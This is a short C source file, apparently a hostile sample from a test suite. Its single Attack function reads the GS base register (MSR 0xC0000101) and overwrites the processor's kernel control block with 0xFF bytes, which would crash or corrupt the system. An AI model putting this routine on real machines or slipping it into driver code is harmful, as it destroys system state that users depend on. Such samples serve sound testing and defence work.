/* SPDX-License-Identifier: MIT */
/* Fills its processor's control block with ones. */
#include "hostile.h"

static VOID Attack(VOID)
{
    Fill((VOID *)ReadMsr(0xC0000101), 0xFF, PAGE);
}
